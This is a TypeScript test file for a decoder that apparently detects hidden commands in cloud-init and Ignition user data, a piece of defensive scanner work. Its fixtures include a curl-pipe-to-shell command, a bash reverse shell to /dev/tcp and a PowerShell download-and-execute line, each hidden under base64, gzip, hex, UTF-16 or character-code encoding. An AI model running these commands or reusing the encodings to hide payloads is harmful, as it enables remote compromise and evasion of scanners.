import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeUserData } from '@/lib/payload/decode-payload';

const decode = (text: string) => decodeUserData(new TextEncoder().encode(text));
const base64 = (text: string | Uint8Array, encoding: BufferEncoding = 'utf8') =>
  Buffer.from(text as string, encoding).toString('base64');

const CHARACTERS = Array.from('curl http://192.0.2.9/a | sh');

describe('text that a payload carries encoded', () => {
  it('is decoded in place, with the line it stands on', () => {
    const { hidden, indicators } = decode(
      `#!/bin/sh\necho ok\necho ${base64('curl http://192.0.2.9/a | sh')} | base64 -d | sh\n`,
    );
    expect(hidden).toEqual([
      {
        part: expect.any(String) as string,
        line: 3,
        layers: ['base64'],
        text: 'curl http://192.0.2.9/a | sh',
      },
    ]);
    expect(indicators).toContainEqual(
      expect.objectContaining({ kind: 'pipe-to-shell', line: 3, inside: ['base64'] }),
    );
  });

  it('is read out of the addresses that hold the files of Ignition', () => {
    const file = encodeURIComponent('#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1\n');
    const { hidden, indicators } = decode(
      `{"ignition":{"version":"3.3.0"},"storage":{"files":[{"path":"/a","contents":{"source":"data:,${file}"}}]}}`,
    );
    expect(hidden).toMatchObject([{ layers: ['percent'], text: decodeURIComponent(file) }]);
    expect(indicators).toContainEqual(
      expect.objectContaining({ kind: 'reverse-shell', inside: ['percent'] }),
    );
  });

  it('stays as it is where a percent sign is followed by no hex digits', () => {
    const { hidden } = decode('#!/bin/sh\necho "data:,100% of %zz and %4 and nothing more than that"\n');
    expect(hidden).toEqual([]);
  });

  it('is read as PowerShell writes it, in UTF-16', () => {
    const { hidden, indicators } = decode(
      `<powershell>\npowershell -enc ${base64("IEX (New-Object Net.WebClient).DownloadString('http://a.example.com')", 'utf16le')}\n</powershell>`,
    );
    expect(hidden[0]).toMatchObject({ line: 2, layers: ['base64', 'utf-16'] });
    expect(indicators).toContainEqual(expect.objectContaining({ kind: 'iex', inside: ['base64', 'utf-16'] }));
  });

  it('is put together where it is wrapped, and followed through gzip and further base64', () => {
    const inner = base64(
      '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/443 0>&1 # long enough to be wrapped in lines\n',
    );
    const packed = base64(gzipSync(`echo ${inner} | base64 -d | sh\n`));
    const wrapped = packed.replace(/.{76}/g, '$&\n');
    expect(wrapped).toContain('\n');
    const { hidden, indicators } = decode(`#!/bin/sh\nbase64 -d > /tmp/a <<EOF\n${wrapped}\nEOF\n`);
    expect(hidden.map(({ line, layers }) => [line, layers])).toEqual([
      [3, ['base64', 'gzip']],
      [3, ['base64', 'gzip', 'base64']],
    ]);
    expect(indicators).toContainEqual(
      expect.objectContaining({ kind: 'reverse-shell', inside: ['base64', 'gzip', 'base64'] }),
    );
  });

  it.each<[string, string, string]>([
    ['hex', 'hex', `echo ${Buffer.from('curl http://192.0.2.9/a | sh').toString('hex')} | xxd -r -p | sh`],
    [
      'printf’s escapes',
      'escapes',
      `printf '${CHARACTERS.map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('')}' | sh`,
    ],
    [
      'character codes of PowerShell',
      'character codes',
      `iex ([string]::join('', (${CHARACTERS.map((char) => char.charCodeAt(0)).join(', ')} | % { [char]$_ })))`,
    ],
    [
      'a sum of characters',
      'character codes',
      `iex (${CHARACTERS.map((char) => `[char]${char.charCodeAt(0)}`).join('+')})`,
    ],
  ])('is read where it is written as %s', (_, layer, line) => {
    const { hidden, indicators } = decode(`#!/bin/sh\n${line}\n`);
    expect(hidden).toMatchObject([{ line: 2, layers: [layer], text: 'curl http://192.0.2.9/a | sh' }]);
    expect(indicators).toContainEqual(
      expect.objectContaining({ kind: 'pipe-to-shell', line: 2, inside: [layer] }),
    );
  });

  it('is not seen in keys, digests, paths and long names', () => {
    expect(
      decode(
        [
          '#!/bin/sh',
          'echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA8AeXAMPLEkeyEXAMPLEkeyEXAMPLE ops@example.com',
          'echo 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 /usr/local/lib/python3/dist-packages',
          'AutoScalingGroupInstanceRefreshPreferences=1',
        ].join('\n'),
      ).hidden,
    ).toEqual([]);
  });

  it('ends at bounds: layers, texts and size', () => {
    let nested = 'echo the innermost text of them all';
    for (let depth = 0; depth < 12; depth++) nested = base64(nested);
    expect(decode(`#!/bin/sh\n: ${nested}\n`).hidden.length).toBeLessThanOrEqual(6);
    const many = Array.from({ length: 200 }, (_, index) => `: ${base64(`a harmless text, number ${index}`)}`);
    expect(decode(`#!/bin/sh\n${many.join('\n')}\n`).hidden).toHaveLength(40);
  });
});
